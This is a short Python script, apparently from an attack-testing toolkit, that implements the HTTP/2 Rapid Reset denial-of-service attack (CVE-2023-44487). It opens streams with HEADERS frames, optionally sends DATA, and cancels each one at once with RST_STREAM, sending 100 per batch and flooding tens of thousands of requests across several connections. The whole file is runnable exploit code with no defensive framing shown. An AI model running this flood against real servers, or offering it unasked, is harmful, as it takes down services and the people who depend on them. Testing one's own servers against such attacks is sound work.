"""Requests that are reset as soon as they are made (CVE-2023-44487). --whole 1: each is a whole request, so a call begins."""
from attack_program import MATCH, program
from h2wire import DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, frame, message, request_block

AT_ONCE = 100
CANCEL = (8).to_bytes(4, "big")


def run(attack):
    headers, body = request_block(MATCH, token=attack.options.token), message(b"")

    def one(number):
        data = frame(DATA, END_STREAM, number, body) if attack.options.whole else b""
        return frame(HEADERS, END_HEADERS, number, headers) + data + frame(RST_STREAM, 0, number, CANCEL)
    attack.flood(lambda connection, _: b"".join(one(connection.stream()) for _ in range(AT_ONCE)), attack.options.count // AT_ONCE)


if __name__ == "__main__":
    program(__doc__, run, count=60_000, connections=4, megabytes=40, whole=0)
